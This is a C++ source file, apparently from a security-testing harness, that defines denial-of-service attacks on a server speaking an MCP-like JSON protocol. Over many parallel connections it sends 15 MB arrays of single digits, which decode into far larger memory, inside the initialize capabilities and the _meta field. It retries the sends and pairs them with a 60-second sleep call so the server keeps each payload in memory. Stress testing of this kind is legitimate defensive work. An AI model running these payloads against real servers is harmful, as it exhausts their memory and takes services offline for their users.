// Arrays of single digits: a decoded number takes many times the two bytes that were sent.
#include "attack/clients.hpp"

namespace attack {
namespace {

const std::string& digits() {
    static const std::string out = "[" + list_of("0", 7'500'000) + "]";  // 15 MB
    return out;
}

}  // namespace

void number_arrays_in_capabilities(Field& field) {
    field.in_parallel([&](int) {
        Wire wire = field.connect();
        const std::string bytes = post(
            initialize_message("2025-11-25", R"({"experimental":{"x":{"y":)" + digits() + "}}}"), field.credentials);
        for (int i = 0; i < 8 && wire.ask(bytes, field.until).status != 0; ++i) field.count();
        field.keep(std::move(wire));
    });
}

// The call runs as long as the attack, and the server keeps its message until it ends.
void number_arrays_in_meta(Field& field) {
    field.in_parallel([&](int) {
        Wire wire = field.connect();
        if (wire.send(modern_call("sleep", R"({"ms":60000})", field.credentials, ",\"x\":" + digits()), field.until))
            field.count();
        field.keep(std::move(wire));
    });
}

}  // namespace attack
